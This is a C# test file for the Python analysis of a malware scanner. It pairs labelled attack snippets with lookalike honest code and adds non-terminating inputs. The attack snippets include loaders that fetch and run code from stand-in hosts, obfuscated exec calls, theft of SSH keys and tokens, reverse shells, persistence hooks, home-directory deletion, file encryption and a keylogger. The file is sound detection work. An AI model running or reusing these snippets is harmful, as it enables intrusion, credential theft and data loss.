using System.Text;
using Assay.Formats;
using Assay.Scanning.Tests.Evasions;

namespace Assay.Scanning.Tests.Behaviour;

/// <summary>What Python code is understood to do; each attack stands beside the honest code that looks most like it.</summary>
public sealed class PythonAnalysisTests
{
    public static TheoryData<string, string> Attacks => new()
    {
        // Fetched and run.
        { "import requests\nexec(requests.get('https://a.invalid/x').text)", "https://a.invalid/x" },
        { "from urllib.request import urlopen as u\ncode = u('https://a.invalid/x').read()\neval(compile(code, 'x', 'exec'))", "https://a.invalid/x" },
        { "import requests, subprocess\nr = requests.get('https://a.invalid/x')\nsubprocess.Popen(['powershell', '-c', r.json()['c']])", "https://a.invalid/x" },
        { "import os, requests, tempfile\np = os.path.join(tempfile.gettempdir(), 'x.exe')\nopen(p, 'wb').write(requests.get('https://a.invalid/x').content)\nos.startfile(p)", "https://a.invalid/x" },
        { "import urllib.request, subprocess, os\npath, _ = urllib.request.urlretrieve('http://a.invalid/x')\nos.chmod(path, 0o755)\nsubprocess.call([path])", "http://a.invalid/x" },
        { "def get(u):\n    import requests\n    return requests.get(u).text\nclass A:\n    def __init__(self): self.c = get('https://a.invalid/x')\n    def go(self): exec(self.c)\nA().go()", "https://a.invalid/x" },
        { "import threading, requests\nthreading.Thread(target=lambda: exec(requests.get('https://a.invalid/x').text)).start()", "https://a.invalid/x" },
        { "import zipfile, io, requests, subprocess\nzipfile.ZipFile(io.BytesIO(requests.get('https://a.invalid/x').content)).extractall('/tmp/q')\nsubprocess.run(['/tmp/q/run'])", "https://a.invalid/x" },
        { "import ctypes, requests\nopen('l.so', 'wb').write(requests.get('https://a.invalid/x').content)\nctypes.CDLL('l.so')", "https://a.invalid/x" },
        // Decoded and run.
        { "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "base64" },
        { "import zlib, marshal, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode('eJw='))))", "marshal" },
        { "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))", "chr" },
        { "exec(bytes([c ^ 7 for c in b'wunis/62.']).decode())", "xor" },
        { "exec('tnirp'[::-1] + '(1)')", "hidden" },
        { "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))", "rot13" },
        { "t = ''\nfor n in [119, 121, 112, 117, 123, 47, 56, 48]:\n    t += chr(n - 7)\nexec(t)", "chr" },
        // Names that hide.
        { "getattr(__import__('o' + 's'), 'sys' + 'tem')('curl http://a.invalid/x | sh')", "a.invalid" },
        { "import builtins\nvars(builtins)['e' + 'xec'](__import__('requests').get('https://a.invalid/x').text)", "a.invalid" },
        { "run = [print, __import__('os').system][1]\nrun('curl http://a.invalid/x | sh')", "a.invalid" },
        { "import webbrowser\nwebbrowser.subprocess.Popen('curl http://a.invalid/x | sh', shell=True)", "a.invalid" },
        // Stolen and sent.
        { "import requests, os\nrequests.post('https://a.invalid/k', data={'k': open(os.path.expanduser('~/.ssh/id_rsa')).read()})", "id_rsa" },
        { "import os, json, urllib.request as r\nr.urlopen(r.Request('https://a.invalid/k', json.dumps(dict(os.environ)).encode()))", "all environment variables" },
        { "import os, requests\nrequests.get(f\"https://a.invalid/?t={os.environ['HF_TOKEN']}\")", "HF_TOKEN" },
        // A shell for a stranger.
        { "import socket, subprocess, os\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])", "192.0.2.1" },
        { "import socket, subprocess\ns = socket.create_connection(('192.0.2.1', 4444))\nwhile True:\n    s.send(subprocess.getoutput(s.recv(1024).decode()).encode())", "command line" },
        // It stays, destroys, mines, spies.
        { "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl http://a.invalid/x | sh\\n')", ".bashrc" },
        { "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, r'C:\\x.exe')", "CurrentVersion" },
        { "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "destroys" },
        { "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor root, _, names in os.walk(os.path.expanduser('~/Documents')):\n    for n in names:\n        p = os.path.join(root, n)\n        d = open(p, 'rb').read()\n        open(p, 'wb').write(f.encrypt(d))", "destroys" },
        { "from pynput.keyboard import Listener\nimport requests\nlog = []\ndef on(k):\n    log.append(k)\n    requests.post('https://a.invalid/k', data={'k': str(log)})\nListener(on_press=on).start()", "records" },
        { "import ctypes\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, 64, 0x3000, 0x40)\nk.RtlMoveMemory(p, b'x', 1)\nk.CreateThread(0, 0, p, 0, 0, 0)", "machine code" },
        // It comes when a class is made, an object is dropped, a name is looked up.
        { "import os\nclass M(type):\n    def __init__(c, *a): os.system('curl http://a.invalid/x | sh')\nclass A(metaclass=M): pass", "a.invalid" },
        { "import os\nclass A:\n    def __init_subclass__(cls): os.system('curl http://a.invalid/x | sh')\nclass B(A): pass", "a.invalid" },
        { "import os, atexit\natexit.register(os.system, 'curl http://a.invalid/x | sh')", "a.invalid" },
        { "def f(x=__import__('os').system('curl http://a.invalid/x | sh')): pass", "a.invalid" },
        // A line that Python refuses hides nothing.
        { "x = = 3\nimport os\nos.system('curl http://a.invalid/x | sh')\n", "a.invalid" },
        // Python 2.
        { "import urllib2\nexec urllib2.urlopen('http://a.invalid/x').read()\nprint 'done'", "a.invalid" },
    };

    public static TheoryData<string> Honest =>
    [
        "import requests\nfrom PIL import Image\nimage = Image.open(requests.get('https://a.invalid/cat.png', stream=True).raw)",
        "import requests\nconfig = requests.get('https://a.invalid/config.json').json()\nprint(config['size'])",
        "import subprocess\nversion = subprocess.check_output(['nvcc', '--version']).decode()\nif 'release 12' in version:\n    print('new')",
        "import subprocess, requests\nopen('a.mp4', 'wb').write(requests.get('https://a.invalid/a.mp4').content)\nsubprocess.run(['ffmpeg', '-i', 'a.mp4', 'a.wav'], check=True)",
        "import torch, os\nstate = torch.load(os.path.join('runs', 'model.pt'), map_location='cpu', weights_only=True)",
        "from huggingface_hub import hf_hub_download\nimport torch\ntorch.load(hf_hub_download('owner/name', 'model.bin'), weights_only=True)",
        "import base64, io\nfrom PIL import Image\nImage.open(io.BytesIO(base64.b64decode('iVBORw0KGgo=')))",
        "import zlib, json\njson.loads(zlib.decompress(open('a.z', 'rb').read()))",
        "import os, wandb\nwandb.login(key=os.environ['WANDB_API_KEY'])",
        "import os, requests\nrequests.post('https://api.openai.com/v1/chat', headers={'Authorization': f\"Bearer {os.environ['OPENAI_API_KEY']}\"}, json={'model': 'x'})",
        "import argparse, torch\np = argparse.ArgumentParser()\np.add_argument('--dtype')\nprint(eval('torch.' + p.parse_args().dtype))",
        "from collections import namedtuple\nns = {}\nexec('def f(a):\\n    return a + 1\\n', ns)\nprint(ns['f'](1))",
        "def check(program, tests):\n    scope = {}\n    exec(program + '\\n' + tests, scope)\n    return scope",
        "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nprint(libc.getpid())",
        "import socket\ns = socket.socket()\ns.bind(('', 0))\nport = s.getsockname()[1]\ns.close()\nprint(port)",
        "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\nshutil.rmtree('build', ignore_errors=True)",
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('export PATH=$PATH:/opt/x/bin\\n')",
        "import os, subprocess\nos.system('clear')\nsubprocess.check_call(['pip', 'install', 'flash-attn', '--no-build-isolation'])",
        "import pickle\nwith open('cache.pkl', 'rb') as f:\n    cache = pickle.load(f)",
        "import smtplib\nm = smtplib.SMTP('localhost')\nm.sendmail('a', 'b', 'training is done, loss 0.1')",
        "print(''.join(chr(c) for c in [72, 101, 108, 108, 111, 44, 32, 119]))\nprint('abc'[::-1])",
        "from pynput import keyboard\nwith keyboard.GlobalHotKeys({'<ctrl>+h': lambda: print('go')}) as h:\n    h.join()",
        "import platform, torch\nprint(platform.node(), torch.__version__)",
        "import importlib\nmodule = importlib.import_module('transformers.models.' + 'llama')\ngetattr(module, 'LlamaModel')",
        "class A:\n    def __reduce__(self):\n        return (A, ())",
    ];

    public static TheoryData<string> Endless =>
    [
        "while True:\n    pass\n",
        "def f(n):\n    return f(n + 1) + f(n + 2)\nf(0)\n",
        "def a(): return b()\ndef b(): return a()\na()\n",
        "x = 'a' * 10**9\ny = x * 10**9\n",
        "x = 'a'\nfor i in range(100):\n    x = x + x\n",
        "for i in range(10**9):\n    for j in range(10**9):\n        x = i * j\n",
        "l = [1]\nfor i in range(60):\n    l = l + l\n",
        "x = [[i for i in range(8000)] for j in range(8000)]\n",
        "def f(g): return g(g)\nf(f)\n",
        "exec(\"exec('exec(1)')\" * 1000)\n",
        "c = 'exec(c)'\nexec(c)\n",
        "f = lambda x: f(f(x))\nf(1)\n",
        "x = {}\nx['x'] = x\nprint(x)\nl = []\nl.append(l)\nimport os\nos.system(str(l))\n",
        "'%s' % ('%1000000000d' % 1)\n'{:>1000000000}'.format(1)\n",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void An_attack_is_malicious_and_told(string code, string words) => ScanAssert.Malicious(Encoding.UTF8.GetBytes(code), words, "code.py");

    [Theory]
    [MemberData(nameof(Honest))]
    public void Honest_code_that_looks_like_it_is_clean(string code) => ScanAssert.Clean(Encoding.UTF8.GetBytes(code), "code.py");

    [Theory]
    [MemberData(nameof(Endless))]
    public void Code_without_end_is_read_to_an_end(string code)
    {
        var report = ScanAssert.Scan(Encoding.UTF8.GetBytes(code), "code.py", new ScanOptions { Limits = new WorkLimits { Seconds = 60 } });
        Assert.True(report.Verdict <= Verdict.Incomplete, ScanAssert.Describe(report));
        Assert.DoesNotContain(report.Incomplete, i => i.Limit == "seconds");
    }

    [Fact]
    public void Every_prefix_of_an_attack_is_survived()
    {
        foreach (var attack in Attacks.Take(20))
        {
            var code = attack.Data.Item1;
            for (var length = 0; length < code.Length; length += 3)
                Acts(code[..length]);
        }
    }

    [Fact]
    public void The_reach_of_code_is_told()
    {
        Assert.Contains(Acts("import os\nos.system('x y')", Reach.Import), a => a is { Deed: Deed.RunProgram, Reach: Reach.Import });
        Assert.Contains(Acts("import os\nif __name__ == '__main__':\n    os.system('x y')", Reach.Import), a => a is { Deed: Deed.RunProgram, Reach: Reach.Main });
        Assert.Contains(Acts("import os\ndef f():\n    os.system('x y')", Reach.Import), a => a is { Deed: Deed.RunProgram, Reach: Reach.Function });
        Assert.Contains(Acts("import os\nclass M:\n    def __init__(self):\n        os.system('x y')", Reach.Import), a => a is { Deed: Deed.RunProgram, Reach: Reach.Import });
    }

    [Theory]
    [InlineData("import subprocess, sys\nsubprocess.run([sys.executable, 'tools/loader.py'])", "tools/loader.py")]
    [InlineData("exec(open('loader.py').read())", "loader.py")]
    [InlineData("import runpy\nrunpy.run_path('loader.py')", "loader.py")]
    [InlineData("from loader import prepare", "loader.py")]
    [InlineData("from .engine import start", "engine.py")]
    public void Files_that_it_runs_are_named(string code, string file) =>
        Assert.Contains(Acts(code), a => a.Files.Contains(file));

    [Fact]
    public void The_table_of_calls_is_sorted_and_each_sample_is_understood()
    {
        using var reader = new StreamReader(typeof(PythonLibrary).Assembly.GetManifestResourceStream("Assay.Scanning.python_calls.tsv")!);
        reader.ReadLine();
        var before = "";
        string[] acting = ["shell", "program", "code", "get", "save", "spy", "secret", "tls-off", "connect", "stream"];
        while (reader.ReadLine() is { } line)
        {
            var row = line.Split('\t');
            Assert.Equal(4, row.Length);
            Assert.True(string.CompareOrdinal(before, row[0]) < 0, $"{row[0]} is not in its place");
            before = row[0];
            var acts = Acts($"import {row[0].Split('.')[0]}\n{row[3].Replace("builtins.", "", StringComparison.Ordinal)}\n");
            if (acting.Contains(row[1].Split(':')[0]))
                Assert.True(acts.Count > 0, $"{row[0]} is in the table, and its sample shows nothing: {row[3]}");
        }
    }

    private static IReadOnlyList<Act> Acts(string code, Reach reach = Reach.Main)
    {
        var acts = new ActSink(new WorkBudget(new WorkLimits()));
        LanguageCatalog.Analyse(new CodeUnit(CodeLanguage.Python, code, reach) { FileName = "code.py" }, acts);
        return acts.Acts;
    }
}
